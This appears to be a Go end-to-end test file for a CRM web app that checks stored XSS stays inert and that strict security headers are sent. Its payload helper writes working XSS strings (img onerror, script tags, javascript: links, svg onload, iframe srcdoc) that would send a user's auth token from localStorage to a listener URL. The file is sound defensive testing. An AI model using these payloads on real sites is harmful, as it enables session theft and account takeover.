package main_test

import (
	"database/sql"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// xssMark is in every payload, so pages can be checked to show the payload (as text).
const xssMark = "XSSMARK"

// xssPayloads are what a hostile sales rep writes: for text fields markup that would run if a
// page used it as HTML, for rich text the same plus links and svg. Each would set
// window.__xss and send the reader's token to the listener.
func xssPayloads(listener string) (text, rich string) {
	steal := fmt.Sprintf(`window.__xss=1;fetch('%s/steal?t='+localStorage.pocketbase_auth)`, listener)
	text = xssMark + `"><img src=x onerror="` + steal + `"><script>window.__xss=2</script>`
	rich = text + `<a href="javascript:window.__xss=3">link</a><svg onload="window.__xss=4"></svg>` +
		`<iframe srcdoc="<script>parent.__xss=5</script>"></iframe><p style="background:url(` + listener + `/css)">p</p>`
	return text, rich
}

// TestStoredXSSDoesNotRun is finding 1 of issue 10 end to end: alice (sales) writes the
// payloads into every text and rich text field of a company, a contact, a deal and an
// activity (and, as if written before the sanitiser existed, raw into the database); a
// manager then opens the record pages, lists, board, tasks, dashboard, run history and
// search. Nothing reaches the listener, no payload runs, and the app breaks no CSP rule.
func TestStoredXSSDoesNotRun(t *testing.T) {
	t.Parallel()
	var hits atomic.Int64
	var lastHit atomic.Value
	listener := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		lastHit.Store(r.URL.String())
	}))
	t.Cleanup(listener.Close)
	textPayload, richPayload := xssPayloads(listener.URL)
	shortPayload := xssMark + `<img src=x onerror=window.__xss=7>`

	b := newBrowser(t)
	dataDir := t.TempDir()
	s := startServer(t, dataDir, exampleServeArgs...)
	aliceTok, aliceID := s.login(t, "users", "alice@example.com", "relata-demo-1")

	var model struct {
		Objects []struct {
			Name   string `json:"name"`
			Fields []struct {
				Name, Type string
			} `json:"fields"`
		} `json:"objects"`
	}
	if code := s.api(t, http.MethodGet, "/api/relata/objects", aliceTok, nil, &model); code != 200 {
		t.Fatalf("objects = %d", code)
	}
	first := func(collection, filter string) string {
		var out struct {
			Items []struct {
				ID string `json:"id"`
			} `json:"items"`
		}
		path := "/api/collections/" + collection + "/records?perPage=1&filter=" + urlEscape(filter)
		if code := s.api(t, http.MethodGet, path, aliceTok, nil, &out); code != 200 || len(out.Items) == 0 {
			t.Fatalf("no %s of alice's (%s): %d", collection, filter, code)
		}
		return out.Items[0].ID
	}
	targets := map[string]string{
		"companies": first("companies", ""),
		"contacts":  first("contacts", fmt.Sprintf("owner = %q", aliceID)),
		"deals":     first("deals", fmt.Sprintf("owner = %q", aliceID)),
	}
	// An activity (note) on the deal and company, shown on their timelines.
	var act map[string]any
	if code := s.api(t, http.MethodPost, "/api/collections/activities/records", aliceTok, map[string]any{
		"type": "note", "subject": textPayload, "body": textPayload, "deal": targets["deals"],
		"company": targets["companies"], "owner": aliceID, "done": true,
	}, &act); code != 200 {
		t.Fatalf("create activity = %d %v", code, act)
	}
	targets["activities"] = act["id"].(string)

	// Every text-like field, one PATCH each: a field whose checks refuse the payload (a
	// pattern, a length) is reported, and the rest must take it.
	var written []string
	for _, o := range model.Objects {
		id, ok := targets[o.Name]
		if !ok {
			continue
		}
		for _, f := range o.Fields {
			var v any
			switch f.Type {
			case "text", "longtext":
				v = textPayload
			case "richtext":
				v = richPayload
			case "tags":
				v = []string{textPayload}
			case "url":
				v = "javascript:window.__xss=6//" + xssMark
			default:
				continue
			}
			var out map[string]any
			code := s.api(t, http.MethodPatch, "/api/collections/"+o.Name+"/records/"+id, aliceTok, map[string]any{f.Name: v}, &out)
			if code == 400 && f.Type == "text" { // a short field (country: 100)
				code = s.api(t, http.MethodPatch, "/api/collections/"+o.Name+"/records/"+id, aliceTok, map[string]any{f.Name: shortPayload}, &out)
			}
			if code != 200 {
				t.Logf("%s.%s refused the payload: %d %v", o.Name, f.Name, code, out["data"])
				continue
			}
			written = append(written, o.Name+"."+f.Name)
		}
	}
	t.Logf("payload written to %s", strings.Join(written, ", "))
	for _, must := range []string{"companies.name", "companies.notes", "companies.address", "contacts.full_name",
		"contacts.message", "companies.country", "deals.name", "deals.description", "activities.subject", "activities.body"} {
		if !strings.Contains(strings.Join(written, ",")+",", must+",") {
			t.Errorf("alice could not write %s; the test would prove nothing for it", must)
		}
	}
	mgr := b.signIn(t, s, "manager@example.com")
	if !eval[bool](mgr, `(() => { window.__csp = []; document.addEventListener('securitypolicyviolation',
		(e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI)); return true; })()`) {
		t.Fatal("could not watch CSP violations")
	}
	pages := []struct{ route, wait string }{
		{"/record/companies/" + targets["companies"], `.record-grid`},
		{"/record/contacts/" + targets["contacts"], `.record-grid`},
		{"/record/deals/" + targets["deals"], `.record-grid`},
		{"/record/activities/" + targets["activities"], `.record-grid`},
		{"/list/companies", `table.records`},
		{"/list/contacts", `table.records`},
		{"/list/deals", `table.records`},
		{"/list/activities", `table.records`},
		{"/board/deals/sales", `li.card`},
		{"/tasks", `.tasks-page`},
		{"/dashboard", `.dashboard`},
		{"/runs", `.sidebar`},
		{"/workflows", `.workflows-page`},
		{"/workflows/new", `.builder`},
		{"/search/" + url.PathEscape(xssMark), `.search-results`},
	}
	for _, p := range pages {
		t.Run(p.route, func(t *testing.T) {
			mgr.t = t
			mgr.open(p.route, p.wait)
			if strings.HasPrefix(p.route, "/record/") || strings.HasPrefix(p.route, "/search/") {
				mgr.wait("the payload as text", `document.body.innerText.includes('`+xssMark+`')`)
			}
			time.Sleep(700 * time.Millisecond) // time for an image error or a fetch to happen
			if v := eval[string](mgr, `String(window.__xss)`); v != "undefined" {
				t.Errorf("payload ran on %s: window.__xss = %s", p.route, v)
			}
			if n := hits.Load(); n != 0 {
				t.Errorf("the listener received %d requests by %s (last %v)", n, p.route, lastHit.Load())
			}
			if n := eval[int](mgr, `document.querySelectorAll('img[onerror], [onload], script:not([src]):not([type=importmap]), iframe, svg a, a[href^="javascript:" i]').length`); n != 0 {
				t.Errorf("%s holds %d elements from the payload", p.route, n)
			}
		})
	}
	mgr.t = t
	// The app itself breaks no rule of its CSP on any of these pages.
	if v := eval[[]string](mgr, `window.__csp`); len(v) != 0 {
		t.Errorf("CSP violations in the app: %v", v)
	}
	mgr.mu.Lock()
	for _, e := range mgr.errors {
		if strings.Contains(e, "Content Security Policy") {
			t.Errorf("console: %s", e)
		}
	}
	mgr.mu.Unlock()

	// Rich text written before the sanitiser existed (or by a path around it): raw in the
	// database, so only the app's safe rendering stands between it and the manager.
	db, err := sql.Open("sqlite", "file:"+filepath.Join(dataDir, "data.db")+"?_pragma=busy_timeout(10000)")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec(`UPDATE companies SET notes = ? WHERE id = ?`, richPayload, targets["companies"]); err != nil {
		t.Fatal(err)
	}
	db.Close()

	// The manager opens the company: the harmless part shows as markup, nothing runs.
	checkRawNotes := func(ss *session, what string) {
		ss.open("/record/companies/"+targets["companies"], `.record-grid`)
		ss.wait("the payload as text", `document.body.innerText.includes('`+xssMark+`')`)
		time.Sleep(time.Second) // time for an image error or a fetch to happen
		if v := eval[string](ss, `String(window.__xss)`); v != "undefined" {
			t.Errorf("%s: payload ran: window.__xss = %s", what, v)
		}
		if n := hits.Load(); n != 0 {
			t.Errorf("%s: the listener received %d requests (last %v)", what, n, lastHit.Load())
		}
		got := eval[string](ss, `document.querySelector('.richtext')?.innerHTML ?? 'no .richtext element'`)
		for _, bad := range []string{"onerror", "<img", "javascript:", "<svg", "style=", "<iframe", "<script"} {
			if strings.Contains(got, bad) {
				t.Errorf("%s: rich text rendered with %s: %s", what, bad, got)
			}
		}
		if !strings.Contains(got, "<p>p</p>") || !strings.Contains(got, "link") {
			t.Errorf("%s: rich text lost its harmless part: %s", what, got)
		}
	}
	checkRawNotes(mgr, "with CSP")
	// The CSP blocks (and reports) the payload's handlers while the inert copy is parsed.
	t.Logf("CSP reports for the raw rich text: %v", eval[[]string](mgr, `window.__csp`))

	// Without CSP (an old browser, a proxy that strips headers), the rendering alone holds.
	bare := b.signIn(t, s, "manager@example.com")
	if _, err := chromedp.Call(bare.ctx, page.SetBypassCSP, page.SetBypassCSPParams{Enabled: true}); err != nil {
		t.Fatal(err)
	}
	bare.do(chromedp.Reload(), chromedp.WaitVisible(chromedp.CSS(".sidebar")))
	eval[bool](bare, `(() => { const i = document.createElement('img'); i.setAttribute('onerror', 'window.__bypass = 1');
		i.src = 'data:,x'; document.body.append(i); return true; })()`)
	bare.wait("CSP bypassed (an inline handler runs)", `window.__bypass === 1`)
	checkRawNotes(bare, "without CSP")
}

// TestSecurityHeaders: the web app sends a strict CSP, every response nosniff and a
// Referrer-Policy; PocketBase's admin UI and the form pages keep their own policies.
func TestSecurityHeaders(t *testing.T) {
	t.Parallel()
	s := startServer(t, t.TempDir(), exampleServeArgs...)
	getStatus := func(path string, status int) http.Header {
		t.Helper()
		res, err := http.Get(s.url + path)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if res.StatusCode != status {
			t.Fatalf("GET %s = %d; want %d", path, res.StatusCode, status)
		}
		return res.Header
	}
	get := func(path string) http.Header { t.Helper(); return getStatus(path, 200) }
	for _, path := range []string{"/", "/index.html", "/app/main.js", "/_/", "/api/health", "/forms/request-a-demo", "/forms/contact-us"} {
		h := get(path)
		if h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: X-Content-Type-Options = %q", path, h.Get("X-Content-Type-Options"))
		}
		if rp := h.Get("Referrer-Policy"); rp != "strict-origin-when-cross-origin" && rp != "no-referrer" && rp != "same-origin" {
			t.Errorf("%s: Referrer-Policy = %q", path, rp)
		}
	}
	for _, path := range []string{"/", "/index.html"} {
		csp := get(path).Get("Content-Security-Policy")
		for _, want := range []string{"default-src 'self'", "script-src 'self' 'sha256-", "object-src 'none'", "base-uri 'self'",
			"frame-ancestors 'none'", "form-action 'self'", "img-src 'self' data:", "connect-src 'self'"} {
			if !strings.Contains(csp, want) {
				t.Errorf("%s: CSP %q lacks %q", path, csp, want)
			}
		}
		for _, bad := range []string{"unsafe-inline", "unsafe-eval", "*"} {
			if strings.Contains(csp, bad) {
				t.Errorf("%s: CSP %q allows %s", path, csp, bad)
			}
		}
	}
	// A path the app does not have (answered with index.html): the app's policy.
	if csp := get("/no/such/route").Get("Content-Security-Policy"); !strings.Contains(csp, "frame-ancestors 'none'") {
		t.Errorf("fallback page of the web app: CSP = %q", csp)
	}
	// Pages of other packages set their own; the app's policy does not replace them.
	if h := getStatus("/unsubscribe/not-a-token", 400); strings.Contains(h.Get("Content-Security-Policy"), "sha256-") || h.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("unsubscribe page: CSP %q, nosniff %q", h.Get("Content-Security-Policy"), h.Get("X-Content-Type-Options"))
	}
	if csp := get("/_/").Get("Content-Security-Policy"); !strings.Contains(csp, "style-src 'self' 'unsafe-inline'") {
		t.Errorf("admin UI CSP = %q; want PocketBase's own", csp)
	}
	// Form pages: embeddable from the form's allowed origins only.
	if csp := get("/forms/request-a-demo").Get("Content-Security-Policy"); !strings.Contains(csp, "frame-ancestors 'self' https://www.example.com https://example.com") ||
		strings.Contains(csp, "unsafe-") {
		t.Errorf("form page CSP = %q", csp)
	}
	if csp := get("/forms/contact-us").Get("Content-Security-Policy"); !strings.Contains(csp, "frame-ancestors") || !strings.Contains(csp, "script-src 'nonce-") {
		t.Errorf("form page CSP = %q", csp)
	}
}
